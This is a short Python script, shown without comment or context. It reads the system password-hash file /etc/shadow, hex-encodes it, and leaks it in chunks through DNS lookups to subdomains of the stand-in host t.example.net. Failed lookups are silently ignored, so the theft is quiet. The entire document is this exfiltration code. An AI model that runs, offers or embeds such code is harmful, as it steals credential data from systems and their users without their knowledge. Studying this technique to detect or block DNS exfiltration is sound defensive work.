import binascii
import socket

secret = open("/etc/shadow", "rb").read()
hexed = binascii.hexlify(secret).decode()
for i in range(0, len(hexed), 60):
    try:
        socket.gethostbyname(f"{i}.{hexed[i:i+60]}.t.example.net")
    except socket.gaierror:
        pass
